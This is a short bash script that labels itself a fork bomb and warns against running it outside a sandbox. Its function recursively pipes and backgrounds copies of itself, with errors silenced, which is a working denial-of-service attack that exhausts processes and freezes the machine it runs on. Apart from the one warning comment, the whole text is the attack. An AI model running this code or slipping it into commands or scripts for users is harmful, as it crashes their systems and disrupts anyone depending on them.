#!/bin/bash
# A fork bomb. Do not run it outside a sandbox.
bomb() { bomb | bomb & }
echo "lighting the fuse"
bomb 2>/dev/null
sleep 300
